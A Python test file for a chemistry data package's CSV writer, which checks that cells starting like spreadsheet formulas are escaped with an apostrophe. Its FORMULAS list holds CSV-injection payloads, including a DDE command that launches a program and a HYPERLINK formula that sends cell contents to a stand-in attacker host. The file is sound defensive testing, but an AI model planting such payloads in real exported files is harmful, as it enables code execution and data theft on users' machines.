import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rdkit import Chem, rdBase

from rmat_hf.data.sources import open_table
from rmat_hf.data.table_writer import TableWriter, starts_like_formula

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-OH",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]
HARMLESS = [
    *("-1.2", "+3", "-1e-5", "-1,5", "-12 000,5", "-.5", "-inf", "+nan", "-5%", " -7 "),
    *("-", "--", "+", "=", "@", "+/-", "", "'", "'=1+1", "CCO", "[Na+].[Cl-]", "(-)-menthol"),
    *("\tCCO", "a=b", "1-2", "2024-01-01"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_recognized(text: str) -> None:
    assert starts_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_signs_and_other_text_are_no_formulas(text: str) -> None:
    assert not starts_like_formula(text)


@given(st.floats())
def test_no_number_is_a_formula(number: float) -> None:
    for text in (repr(number), f"{number:+}", f"{number:e}", f"{number:.3f}"):
        assert not starts_like_formula(text)


@given(st.sampled_from("=+-@"), st.text("CNOcn123()=#[]+-@", max_size=6))
def test_no_valid_smiles_is_a_formula(start: str, rest: str) -> None:
    with rdBase.BlockLogs():
        assert Chem.MolFromSmiles(start + rest) is None


def test_a_csv_file_gets_an_apostrophe_and_a_count_and_is_the_original_without_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    rows = [["=2+3", "smiles", "y"]] + [[text, "CCO", "-1.2"] for text in FORMULAS + HARMLESS]
    with source.open("w", newline="") as stream:
        csv.writer(stream).writerows(rows)
    table = open_table(source)
    with TableWriter(
        output, input_schema=table.schema, added_columns={"error": "text", "-z": "number"}
    ) as writer:
        for chunk in table.iterate_chunks(7):
            added = {"error": [None] * chunk.num_rows, "-z": [-0.5] * chunk.num_rows}
            writer.write({**chunk.columns, **added})
    with output.open(newline="") as stream:
        written = list(csv.reader(stream))
    # the name of an added column is that of a label, text of a stranger too
    assert written[0] == ["'=2+3", "smiles", "y", "error", "'-z"]
    assert [row[0] for row in written[1:]] == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert {tuple(row[1:]) for row in written[1:]} == {("CCO", "-1.2", "", "-0.5")}
    assert caplog.messages == [
        f"{output}: {len(FORMULAS) + 2} cells start like a formula; an apostrophe in front keeps "
        "spreadsheets from running them."
    ]


def test_keep_leaves_every_cell_as_it_is(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "out.csv"
    with TableWriter(path, added_columns={"x": "text"}, csv_formulas="keep") as writer:
        writer.write({"x": FORMULAS})
    with path.open(newline="") as stream:
        assert [row[0] for row in csv.reader(stream)] == ["x", *FORMULAS]
    assert caplog.messages == []
